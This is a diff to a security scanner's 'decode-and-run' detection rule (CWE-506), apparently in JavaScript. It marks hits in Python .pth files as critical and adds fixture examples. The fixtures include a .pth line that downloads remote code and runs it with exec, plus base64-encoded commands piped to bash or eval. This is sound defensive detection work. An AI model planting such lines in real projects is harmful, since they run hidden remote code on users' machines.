@@ -11,9 +11,14 @@ export const decodeAndRun = defineRule({
   cwe: 'CWE-506',
   why: 'Encoding hides what runs. Honest scripts have no reason to hide their commands.',
   remedy: 'Write commands in plain text.',
-  check: (facts) => trapHits(facts, 'decode-and-run'),
+  *check(facts) {
+    // Python runs such a line whenever it starts, whatever is started.
+    for (const hit of trapHits(facts, 'decode-and-run'))
+      yield hit.place.path.endsWith('.pth') ? { ...hit, severity: 'critical', confidence: 'high' } : hit;
+  },
   examples: {
     bad: [
+      { files: { 'src/a.pth': "import urllib.request; exec(urllib.request.urlopen('https://a.dev/p').read())\n" } },
       { files: { 'install.sh': 'echo "ZWNobyBoaQo=" | base64 -d | bash\n' } },
       { files: { 'x.sh': 'eval "$(echo ZWNobyBoaQo= | base64 --decode)"\n' } },
     ],
